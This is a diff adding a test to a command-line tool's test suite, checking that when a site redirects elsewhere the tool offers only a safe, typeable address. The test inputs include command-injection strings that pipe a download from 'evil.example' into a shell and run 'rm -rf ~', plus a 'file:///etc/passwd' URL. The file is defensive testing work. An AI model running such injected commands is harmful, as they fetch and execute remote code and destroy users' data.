@@ -181,6 +181,20 @@ test.each([
   expect({ exitCode, written: existsSync(join(home, '.config')) }).toEqual({ exitCode: 1, written: false })
 })
 
+test.each([
+  ['https://www.example.org/x.yaml;curl${IFS}evil.example|sh', /\nNext: see whether the address is right\n/u],
+  ['https://www.example.org/ -y; rm -rf ~', /\nNext: see whether the address is right\n/u],
+  ['http://www.example.org/x.yaml', /\nNext: see whether the address is right\n/u],
+  ['https://user:pass@www.example.org/x.yaml', /\nNext: see whether the address is right\n/u],
+  ['/other/campus.yaml', /\nNext: .*icc site add https:\/\/127\.0\.0\.1:\d+\/other\/campus\.yaml\n/u],
+])('where one is sent on to %s, only an address that can be typed is offered', async (location, next) => {
+  const { add } = homeWithFile()
+  const { url, given } = await website({ status: 302, headers: { location } })
+  const { stderr, exitCode } = await add([url, '--yes'], given)
+  expect(exitCode).toBe(1)
+  expect(stderr).toMatch(next)
+})
+
 test.each(['http://www.example.org/x.yaml', 'ftp://www.example.org/x.yaml', 'file:///etc/passwd'])(
   'from %s nothing is taken',
   async (url) => {
